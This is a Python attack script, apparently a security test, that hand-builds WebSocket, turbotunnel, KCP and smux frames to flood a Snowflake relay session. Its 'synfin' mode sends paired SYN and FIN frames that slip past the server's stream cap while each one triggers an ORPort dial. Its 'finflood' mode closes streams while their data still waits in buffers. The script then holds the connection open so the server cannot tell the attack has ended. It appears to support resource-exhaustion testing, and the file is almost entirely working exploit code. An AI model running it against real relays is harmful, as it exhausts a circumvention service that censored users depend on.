#!/usr/bin/env python3
"""Attacks on the relay streams behind one Snowflake session, built by hand from the wire formats
(WebSocket client frames, turbotunnel preamble and encapsulation, KCP PUSH segments carrying smux
v2 frames; helpers from flood.py):

  stream_attack.py --addr A synfin N      N pairs of SYN + FIN on fresh stream ids in one session:
                                          smux closes each stream at once, so its own cap never
                                          sees them, while each SYN starts an ORPort dial
  stream_attack.py --addr A finflood N B  N streams, each SYN, B bytes of PSH, FIN: the FIN closes
                                          the smux stream while its bytes still wait for tor

After sending it prints one JSON line (what it sent, how much of it the server's KCP
acknowledged (una of its segments) and took out of KCP (una less the segments its advertised
window says are unread)), then keeps the WebSocket open for --hold
seconds (the server must not be able to tell the attack is over) while reading what the server
sends. Every socket operation has a timeout."""
import argparse
import json
import os
import select
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from flood import TOKEN, encap, smux, ws_connect, ws_frame_zero_mask  # noqa: E402

SEG_PAYLOAD = 1376   # KCP MSS at the 1400-byte MTU
KCP_WND = 65535      # the server's receive window; it advertises what its unread segments leave
SYN, FIN, PSH = 0, 1, 2


class ServerReader(threading.Thread):
    """Reads the server's WebSocket frames, decapsulates KCP packets and keeps the highest una."""

    def __init__(self, sock, conv):
        super().__init__(daemon=True)
        self.sock, self.conv = sock, conv
        self.una = 0
        self.wnd = KCP_WND
        self.closed = False
        self.stop = False

    def run(self):
        buf = b""
        while not self.stop:
            try:
                # select, not a socket timeout: the sender owns the socket's timeout
                if not select.select([self.sock], [], [], 0.2)[0]:
                    continue
                b = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (OSError, ValueError):
                break
            if not b:
                break
            buf += b
            buf = self.frames(buf)
        self.closed = True

    def frames(self, buf):
        while len(buf) >= 2:
            n, off = buf[1] & 0x7f, 2
            if n == 126:
                if len(buf) < 4:
                    break
                n, off = struct.unpack("!H", buf[2:4])[0], 4
            elif n == 127:
                if len(buf) < 10:
                    break
                n, off = struct.unpack("!Q", buf[2:10])[0], 10
            if len(buf) < off + n:
                break
            if buf[0] & 0x0f == 2:
                self.packets(buf[off:off + n])
            buf = buf[off + n:]
        return buf

    def packets(self, data):
        i = 0
        while i < len(data):
            b = data[i]
            i += 1
            length = b & 0x3f
            more = b & 0x40
            while more and i < len(data):
                b = data[i]
                i += 1
                length = (length << 7) | (b & 0x7f)
                more = b & 0x80
            pkt = data[i:i + length]
            i += length
            self.segments(pkt)

    def segments(self, pkt):
        while len(pkt) >= 24:
            conv, cmd, frg, wnd, ts, sn, una, ln = struct.unpack("<IBBHIIII", pkt[:24])
            if conv == self.conv and una >= self.una:
                self.una = una
                self.wnd = wnd
            pkt = pkt[24 + ln:]


class Session:
    def __init__(self, addr):
        self.sock = ws_connect(addr, 5)
        self.conv = struct.unpack("<I", os.urandom(4))[0]
        self.sock.sendall(ws_frame_zero_mask(TOKEN + os.urandom(8)))
        self.sn = 0
        self.seg_bytes = []   # payload size of each segment, by sn
        self.reader = ServerReader(self.sock, self.conv)
        self.reader.start()

    def send_stream(self, data, deadline):
        """Cuts the smux byte stream into KCP PUSH segments; False when the server stopped
        taking them (the socket stayed full) or the deadline passed."""
        msg = b""
        for off in range(0, len(data), SEG_PAYLOAD):
            chunk = data[off:off + SEG_PAYLOAD]
            seg = struct.pack("<IBBHIIII", self.conv, 0x51, 0, 65535, 0, self.sn, 0,
                              len(chunk)) + chunk
            self.sn += 1
            self.seg_bytes.append(len(chunk))
            msg += encap(seg)
            if len(msg) > 60000:
                if not self.send(msg, deadline):
                    return False
                msg = b""
        return self.send(msg, deadline) if msg else True

    def send(self, msg, deadline):
        frame = ws_frame_zero_mask(msg)
        while frame:
            if time.time() > deadline:
                return False
            try:
                n = self.sock.send(frame)
            except socket.timeout:
                return False
            except BlockingIOError:
                time.sleep(0.05)
                continue
            except OSError:
                return False   # closed by the server (e.g. evicted under memory pressure)
            frame = frame[n:]
        return True

    def acked_bytes(self):
        return sum(self.seg_bytes[:self.reader.una])

    def taken_bytes(self):
        """Acknowledged bytes the server also read out of KCP (into smux and the streams)."""
        unread = KCP_WND - self.reader.wnd
        return sum(self.seg_bytes[:max(0, self.reader.una - unread)])


def synfin(args, out):
    s = Session(args.addr)
    s.sock.settimeout(5)
    frames = b"".join(smux(SYN, 3 + 2 * i) + smux(FIN, 3 + 2 * i) for i in range(args.n))
    s.send_stream(frames, args.deadline)
    return s, dict(pairs=args.n)


def finflood(args, out):
    s = Session(args.addr)
    s.sock.settimeout(3)   # a server that stops reading makes send time out: that is the bound
    chunk = os.urandom(32768)
    sent = 0
    for i in range(args.n):
        sid = 3 + 2 * i
        data = smux(SYN, sid)
        left = args.bytes
        while left > 0:
            n = min(left, len(chunk))
            data += smux(PSH, sid, chunk[:n])
            left -= n
        data += smux(FIN, sid)
        if not s.send_stream(data, args.deadline):
            break
        sent += 1
    # Let the server acknowledge what it took.
    end = min(time.time() + 3, args.deadline)
    last = -1
    while time.time() < end and s.reader.una != last:
        last = s.reader.una
        time.sleep(1)
    return s, dict(streams_sent=sent, bytes_per_stream=args.bytes)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--timeout", type=float, default=60)
    ap.add_argument("--hold", type=float, default=0)
    ap.add_argument("mode", choices=["synfin", "finflood"])
    ap.add_argument("n", type=int)
    ap.add_argument("bytes", type=int, nargs="?", default=0)
    args = ap.parse_args()
    args.deadline = time.time() + args.timeout
    out = {"mode": args.mode}
    s, res = {"synfin": synfin, "finflood": finflood}[args.mode](args, out)
    out.update(res, segments=s.sn, acked_segments=s.reader.una, acked_bytes=s.acked_bytes(),
               taken_bytes=s.taken_bytes(), server_wnd=s.reader.wnd,
               closed=s.reader.closed)
    print(json.dumps(out), flush=True)
    end = time.time() + args.hold
    while time.time() < end and not s.reader.closed:
        time.sleep(0.2)
    s.reader.stop = True
    s.sock.close()


if __name__ == "__main__":
    sys.exit(main())
